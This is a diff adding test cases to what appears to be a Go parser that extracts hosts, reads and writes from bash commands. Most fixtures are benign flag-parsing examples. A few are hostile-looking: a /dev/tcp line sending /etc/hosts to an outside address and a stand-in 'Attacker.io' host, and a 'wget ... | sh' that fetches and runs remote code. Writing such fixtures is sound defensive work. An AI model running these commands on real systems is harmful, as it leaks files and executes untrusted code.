@@ -149,6 +149,20 @@ var normalizeCases = []struct {
 	{"ssh_scp_rsync", bash("ssh -p 22 user@box.example.com ls; scp a.txt me@host.io:/tmp/; rsync -av ./src/ backup.lan:/data"), "/w", expect{hosts: []string{"box.example.com", "host.io", "backup.lan"}, reads: []string{"/w/a.txt", "/w/src"}}},
 	{"dev_tcp", bash("exec 3<>/dev/tcp/Attacker.io/80; cat /etc/hosts > /dev/tcp/1.2.3.4/9"), "/w", expect{hosts: []string{"attacker.io", "1.2.3.4"}, writes: []string{}}},
 
+	// Flags as getopt reads them: bundles, attached values, --flag=value, "--".
+	{"curl_bundled_output", bash("curl -sLo sol.py https://raw.example.com/fix.py && curl -fsSL --output=/tmp/b.sh https://get.example.org/b.sh"), "/w", expect{writes: []string{"/w/sol.py", "/tmp/b.sh"}, hosts: []string{"raw.example.com", "get.example.org"}}},
+	{"curl_remote_name", bash("curl -sLO https://example.com/dl/fix-1.2.tar.gz?x=1"), "/w", expect{writes: []string{"/w/fix-1.2.tar.gz"}, hosts: []string{"example.com"}}},
+	{"wget_bundled_output", bash("wget -qO tests/test_x.py http://10.0.0.9/t.py; wget -qO- https://example.com/s | sh"), "/w", expect{writes: []string{"/w/tests/test_x.py"}, hosts: []string{"10.0.0.9", "example.com"}}},
+	{"grep_bundled_context", bash(`grep -nC 5 "def solve" src/a.py; grep -A3 x b.py; grep -nA 2 -- -v c.py`), "/w", expect{reads: []string{"/w/src/a.py", "/w/b.py", "/w/c.py"}}},
+	{"ls_directory_flag", bash("ls -d /root/.config; ls -ltd /opt"), "/w", expect{lists: []string{"/root/.config", "/opt"}}},
+	{"cp_bundled_target", bash("cp -rt /tmp/out a b; install -Dm644 conf.py /etc/x/conf.py"), "/w", expect{reads: []string{"/w/a", "/w/b", "/w/conf.py"}, writes: []string{"/tmp/out", "/etc/x/conf.py"}}},
+	{"pip_bundled_requirement", bash("pip install -qr req.txt --no-binary :all: foo==1.0"), "/w", expect{reads: []string{"/w/req.txt"}, packages: []string{"foo==1.0"}}},
+	{"rsync_partial_progress", bash("rsync -avP src/ /backup/src"), "/w", expect{reads: []string{"/w/src"}, writes: []string{"/backup/src"}}},
+	{"sed_bundled_inplace", bash("sed -ni 's/a/b/p' x.py; sed -i.bak -e 's/x/y/' y.py; sed -ne '1,5p' z.py"), "/w", expect{writes: []string{"/w/x.py", "/w/y.py"}, reads: []string{"/w/z.py"}}},
+	{"tail_bundled_count", bash("tail -fn 100 app.log"), "/w", expect{reads: []string{"/w/app.log"}}},
+	{"column_table", bash("column -t data.tsv"), "/w", expect{reads: []string{"/w/data.tsv"}}},
+	{"time_output_file", bash("/usr/bin/time -o t.txt -f %e cat a"), "/w", expect{writes: []string{"/w/t.txt"}, reads: []string{"/w/a"}, names: []string{"time", "cat"}}},
+
 	// Git.
 	{"git_log_all", bash("git log --all --oneline -n 5 -- tests/"), "/w", expect{allRefs: yes, refs: []string{}}},
 	{"git_show_refs", bash("git show a1b2c3d:tests/test_x.py && git diff HEAD~2..origin/main -- src/a.py && git log main...feature/x"), "/w", expect{refs: []string{"a1b2c3d", "HEAD~2", "origin/main", "main", "feature/x"}, allRefs: no}},
